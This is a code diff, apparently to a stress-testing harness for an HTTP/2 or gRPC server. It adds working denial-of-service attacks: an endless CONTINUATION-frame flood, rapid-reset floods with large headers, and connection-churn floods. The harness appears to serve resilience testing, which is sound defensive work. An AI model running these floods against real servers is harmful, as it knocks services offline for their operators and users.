@@ -66,6 +66,29 @@ def _reset(stream: int) -> bytes:
     return http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL))
 
 
+def _continuations(headers: bytes) -> Iterator[bytes]:
+    """One call whose headers never end: fields of a kilobyte that are not to be remembered."""
+    field = b"\x00" + bytes((5,)) + b"x-pad" + b"\x7f" + bytes((0x81, 0x07)) + bytes(1024)
+    yield http2.frame(http2.HEADERS, 0, 1, headers)
+    batch = http2.frame(http2.CONTINUATION, 0, 1, field * 15) * 8
+    while True:
+        yield batch
+
+
+def _churn(victim: Victim, seconds: float, call: bytes) -> Outcome:
+    """Connections that greet, and may begin a call, and are dropped at once."""
+    end, outcome = time.monotonic() + seconds, Outcome()
+    greeting = http2.PREFACE + http2.settings() + call
+    while time.monotonic() < end:
+        try:
+            with socket.create_connection((victim.host, victim.port), _SOCKET_TIMEOUT_S) as connection:
+                connection.sendall(greeting)
+                outcome["connections"] += 1
+        except OSError:
+            outcome["not connected"] += 1
+    return outcome
+
+
 def _pings(headers: bytes) -> Iterator[bytes]:
     batch = b"".join(http2.frame(http2.PING, 0, 0, os.urandom(8)) for _ in range(_BATCH))
     while True:
@@ -160,6 +183,17 @@ def _unknown_headers() -> bytes:
     return http2.call_headers("/no.Service/Method")
 
 
+def _first_call() -> bytes:
+    return _head(_call_headers(), 1)
+
+
+def _large_headers() -> bytes:
+    """Of 5 kB."""
+    return http2.call_headers(
+        COMPLETE_QUERY, extra=[(f"x-{number}", os.urandom(250).hex()) for number in range(10)]
+    )
+
+
 def _idle(victim: Victim, seconds: float, prepared: None) -> Outcome:
     """Connections that greet and then stand still."""
     connections: list[socket.socket] = []
@@ -252,6 +286,34 @@ ATTACKS = (
         f"rapid reset on {2 * NUM_FLOODED} connections, of a method that there is not, two processes, no token",
         partial(_on_many_connections, _resets),
         _unknown_headers,
+        num_processes=2,
+    ),
+    Attack(
+        "large-resets",
+        "rapid reset with headers of 5 kB, two processes, no token",
+        partial(_flood, _resets, reads=_answer),
+        _large_headers,
+        num_processes=2,
+    ),
+    Attack(
+        "endless-headers",
+        "calls whose headers go on in CONTINUATION frames without end, two processes, no token",
+        partial(_flood, _continuations, reads=_answer),
+        _call_headers,
+        num_processes=2,
+    ),
+    Attack(
+        "churn",
+        "connections that are dropped at once, two processes, no token",
+        _churn,
+        bytes,
+        num_processes=2,
+    ),
+    Attack(
+        "churn-of-calls",
+        "connections that begin a call and are dropped at once, two processes, no token",
+        _churn,
+        _first_call,
         num_processes=2,
     ),
     Attack(
